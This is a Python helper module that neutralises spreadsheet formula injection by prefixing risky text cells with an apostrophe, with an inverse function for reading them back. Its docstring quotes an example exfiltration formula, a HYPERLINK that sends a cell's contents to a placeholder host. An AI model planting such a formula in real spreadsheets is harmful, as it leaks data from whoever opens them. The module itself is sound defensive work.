"""Spreadsheet cells that stay data: the OWASP rule against formula injection, for every XLSX and CSV cityops writes.

A bureau's spreadsheet, a device's answer or an engineer's note may hold text such
as `=HYPERLINK("http://x/?"&A1)` or `@SUM(...)`. Written as it is into a CSV (or
handed to openpyxl, which stores any string starting with '=' as a formula), it
becomes a live formula on the desk of whoever opens the device archive. Every
text cell whose first character is one a spreadsheet reads as the start of a
formula (= + - @, tab, carriage return) is written with a leading apostrophe;
the inventory's own CSV reader takes exactly that apostrophe off again, so a
value round-trips through cityops unchanged.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """A text cell's value as it may be written; numbers and other types are returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The inverse, for the inventory's own CSVs: "'=x" read back as "=x" (a plain leading apostrophe stays)."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def neutral_row(values) -> list:
    return [neutralise(v) for v in values]
